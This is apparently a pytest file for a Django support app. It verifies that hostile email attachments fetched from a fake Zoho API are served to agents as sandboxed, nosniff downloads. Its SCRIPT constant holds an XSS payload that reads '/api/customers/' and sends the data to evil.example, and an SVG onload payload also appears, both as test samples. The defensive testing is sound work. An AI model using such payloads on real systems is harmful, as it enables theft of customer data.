"""A hostile attachment, end to end (issue item 1): the customer's email arrives over the signed Zoho
webhook, its attachments are fetched from (a local fake of) Zoho's API with the MIME type the sender
chose, and the agent opens them from the review page. Whatever the name and the claimed type, the
admin serves a download typed by the bytes, never a page that runs in the agent's session.
"""

from __future__ import annotations

import pytest
from django.urls import reverse

from conversations.models import Draft
from tests.builders import make_staff, zoho_deliver
from tests.integrations.zoho.conftest import fake_zoho  # noqa: F401 - the fixture, shared

pytestmark = pytest.mark.django_db
SECRET = "zoho-attachment-secret"
SCRIPT = "<html><body><script>fetch('/api/customers/').then(r=>r.text()).then(t=>fetch('//evil.example/?'+t))</script>"
PDF = "%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
# (name, what the sender's mail client claimed, bytes, what the agent's browser must be given)
FILES = [
    ("damage-photo.jpg", "text/html", SCRIPT, "application/octet-stream"),
    ("logo.svg", "image/svg+xml", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
     "application/octet-stream"),
    ("invoice.html", "application/pdf", SCRIPT, "application/octet-stream"),
    ("receipt.pdf", "text/html; charset=utf-8", PDF, "application/pdf"),  # a real PDF still opens as one
]


def test_every_hostile_attachment_reaches_the_agent_as_an_inert_download(client, fake_zoho, settings,  # noqa: F811
                                                                         django_capture_on_commit_callbacks):
    settings.ZOHO_WEBHOOK_SECRET = SECRET
    meta = {**fake_zoho.messages["1732512000000100002"], "messageId": 1732512000000100091, "threadId": 91}
    fake_zoho.add_message(meta, content="<p>Photos of the damage attached.</p>")
    fake_zoho.attachments["1732512000000100091"] = [
        {"attachmentId": 900 + n, "attachmentName": name, "attachmentSize": len(data), "content": data,
         "contentType": claimed} for n, (name, claimed, data, _) in enumerate(FILES)]
    message = zoho_deliver(client, django_capture_on_commit_callbacks, meta, secret=SECRET)
    assert [a["name"] for a in message.attachments] == [name for name, *_ in FILES]
    draft = Draft.objects.get(reply_to=message)

    client.force_login(make_staff("Agents", "grace"))
    page = client.get(reverse("admin:conversations_draft_change", args=[draft.pk])).content.decode()
    for index, (name, _claimed, data, served_as) in enumerate(FILES):
        url = reverse("admin:conversations_draft_attachment", args=[draft.pk, message.pk, index])
        assert url in page, name  # the review page links it
        served = client.get(url)
        assert served.status_code == 200, name
        assert served["Content-Type"] == served_as, name
        assert served["Content-Disposition"].startswith("attachment;"), name
        assert served["X-Content-Type-Options"] == "nosniff", name
        assert served["Content-Security-Policy"].startswith("sandbox"), name
        assert b"".join(served) == data.encode(), name  # the customer's bytes, untouched
